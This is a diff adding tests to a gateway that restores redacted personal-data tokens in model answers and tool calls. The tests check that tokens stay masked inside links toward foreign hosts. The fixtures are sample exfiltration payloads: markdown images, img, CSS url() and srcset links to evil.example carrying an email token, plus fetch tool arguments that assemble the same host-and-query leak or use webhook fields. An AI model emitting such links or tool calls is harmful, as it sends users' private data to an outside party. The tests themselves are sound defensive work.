@@ -304,3 +304,129 @@ describe('tokens inside a link in the text answer', () => {
     expect(result.text).toBe('See https://crm.example/customers?mail=jane@corp.example for the record. ');
   });
 });
+
+describe('a link written across white space in the text answer (review s9)', () => {
+  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
+  const CRM = 'https://crm.example/customers?mail=jane@corp.example';
+
+  const spread = [
+    ['an angle-bracket destination with a word between', 'Done ![](<https://evil.example/p.png?d=x [EMAIL_1]>) ok. '],
+    ['a newline inside an attribute after a word', 'Done <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> ok. '],
+    ['two newlines inside an attribute', 'Done <img src="https://evil.example/p.png?d=\nx\n[EMAIL_1]"> ok. '],
+    ['a CSS url() with a space', 'Done <div style="background:url(https://evil.example/p.png?d=x [EMAIL_1])"></div> ok. '],
+    ['a srcset candidate', 'Done <img srcset="https://evil.example/p.png?d=x [EMAIL_1] 2x"> ok. '],
+    ['a reference definition', 'Done ![a][r]\n\n[r]: <https://evil.example/p.png?d=x [EMAIL_1]>\n'],
+  ] as const;
+  for (const [how, answer] of spread) {
+    it(`keeps the token in a link spread over several words: ${how}`, async () => {
+      f.provider.answer = answer;
+      f.provider.functionCalls = undefined;
+      const result = await f.gateway.call(ask('text-spread', PROMPT));
+      expect(result.text).toBe(answer);
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
+    });
+  }
+
+  it('does not let a link the caller wrote vouch for the rest of a link the model opened', async () => {
+    const answer = 'Done ![](<https://evil.example/p.png?x https://crm.example/c?m=[EMAIL_1]>) ok. ';
+    f.provider.answer = answer;
+    f.provider.functionCalls = undefined;
+    const result = await f.gateway.call(ask('text-spread-vouch', `${PROMPT} see https://crm.example/c?m=jane@corp.example`));
+    expect(result.text).toBe(answer);
+  });
+
+  it('restores the tokens before the first link and keeps every token after it, counted', async () => {
+    f.provider.answer = 'Summary for [EMAIL_1]. <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> Also [SSN_1] and [EMAIL_1]. ';
+    f.provider.functionCalls = undefined;
+    const result = await f.gateway.call(ask('text-after-link', PROMPT));
+    expect(result.text).toBe('Summary for jane@corp.example. <img src="https://evil.example/p.png?d=x\n[EMAIL_1]"> Also [SSN_1] and [EMAIL_1]. ');
+    expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { restored: 1, keptInUrl: 3, keptInUrlCategories: 'EMAIL,SSN' } });
+  });
+
+  it('keeps a token straight after an app-link scheme in a markdown link target, and restores a label before a token', async () => {
+    f.provider.answer = 'Done [join](zoommtg:[EMAIL_1]) ok. ';
+    f.provider.functionCalls = undefined;
+    const link = await f.gateway.call(ask('text-app-link', PROMPT));
+    expect(link.text).toBe('Done [join](zoommtg:[EMAIL_1]) ok. ');
+    f.provider.answer = 'Email:[EMAIL_1] and SSN:[SSN_1] on file. ';
+    const label = await f.gateway.call(ask('text-label', PROMPT));
+    expect(label.text).toBe('Email:jane@corp.example and SSN:123-45-6789 on file. ');
+    expect(restoreVerdict(label)?.outcome).toBe('pass');
+  });
+
+  const own = [
+    ['a markdown link', 'See [the record](https://crm.example/customers?mail=[EMAIL_1]) now. '],
+    ['bold', 'See **https://crm.example/customers?mail=[EMAIL_1]** now. '],
+    ['code', 'See `https://crm.example/customers?mail=[EMAIL_1]` now. '],
+  ] as const;
+  for (const [how, answer] of own) {
+    it(`restores a link the caller wrote, wrapped in ${how}, and the tokens after it`, async () => {
+      f.provider.answer = `${answer}Ask [EMAIL_1]. `;
+      f.provider.functionCalls = undefined;
+      const result = await f.gateway.call(ask('text-own-wrapped', `Open ${CRM} and summarise`));
+      expect(result.text).toBe(`${answer}Ask [EMAIL_1]. `.replaceAll('[EMAIL_1]', 'jane@corp.example'));
+      expect(restoreVerdict(result)?.outcome).toBe('pass');
+    });
+  }
+
+  const foreign = [
+    ['another link in the same word', 'See ![](https://evil.example/?x=1)https://crm.example/customers?mail=[EMAIL_1] now. '],
+    ['a link that carries it', 'See https://evil.example/?u=https://crm.example/customers?mail=[EMAIL_1] now. '],
+    ['a markdown image of another host around it', 'See [x](https://evil.example/r?https://crm.example/customers?mail=[EMAIL_1]) now. '],
+  ] as const;
+  for (const [how, answer] of foreign) {
+    it(`keeps the token of a caller's link in ${how}`, async () => {
+      f.provider.answer = answer;
+      f.provider.functionCalls = undefined;
+      const result = await f.gateway.call(ask('text-own-foreign', `Open ${CRM} and summarise`));
+      expect(result.text).toBe(answer);
+    });
+  }
+});
+
+describe('a link a tool builds from separate fields (review s9)', () => {
+  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
+  const kept = [
+    ['a host, a path and a query', { host: 'evil.example', path: '/c', q: '[EMAIL_1]' }],
+    ['a scheme, a host and a query', { scheme: 'https', host: 'evil.example', q: '[EMAIL_1]' }],
+    ['a bare host under an ordinary name', { target: 'evil.example', q: '[EMAIL_1]' }],
+    ['localhost', { server_name: 'localhost', q: '[EMAIL_1]' }],
+    ['a token under a location name', { webhook_url: '[EMAIL_1]' }],
+    ['a token under a camel-case location name', { callbackHost: '[EMAIL_1]' }],
+    ['an app-link scheme then a token under url', { url: 'zoommtg:[EMAIL_1]' }],
+    ['an app-link scheme then a token under URL', { URL: 'msteams:[EMAIL_1]' }],
+  ] as const;
+  for (const [how, args] of kept) {
+    it(`keeps the token: ${how}`, async () => {
+      f.provider.answer = 'ok';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
+      const result = await f.gateway.call(ask('tool-fields', PROMPT, { functions: FETCH }));
+      expect(result.functionCalls[0]?.arguments).toEqual(args);
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
+    });
+  }
+
+  const restored = [
+    ['a subject with a version', { to: '[EMAIL_1]', subject: 'Minutes v1.2' }, { to: 'jane@corp.example', subject: 'Minutes v1.2' }],
+    ['a file path', { path: '/shared/minutes.docx', owner: '[EMAIL_1]' }, { path: '/shared/minutes.docx', owner: 'jane@corp.example' }],
+    ['a file name', { file: 'README.md', owner: '[EMAIL_1]' }, { file: 'README.md', owner: 'jane@corp.example' }],
+    ['a name with an initial', { name: 'J.Smith', email: '[EMAIL_1]' }, { name: 'J.Smith', email: 'jane@corp.example' }],
+    ['an empty link field', { link: '', email: '[EMAIL_1]' }, { link: '', email: 'jane@corp.example' }],
+  ] as const;
+  for (const [how, args, expected] of restored) {
+    it(`restores ordinary arguments: ${how}`, async () => {
+      f.provider.answer = 'ok';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
+      const result = await f.gateway.call(ask('tool-ordinary', PROMPT, { functions: FETCH }));
+      expect(result.functionCalls[0]?.arguments).toEqual(expected);
+      expect(restoreVerdict(result)?.outcome).toBe('pass');
+    });
+  }
+
+  it('restores beside a host the caller wrote', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { host: 'db.internal', user: '[EMAIL_1]' } }];
+    const result = await f.gateway.call(ask('tool-own-host', `${PROMPT}; the database is db.internal`, { functions: FETCH }));
+    expect(result.functionCalls[0]?.arguments).toEqual({ host: 'db.internal', user: 'jane@corp.example' });
+  });
+});
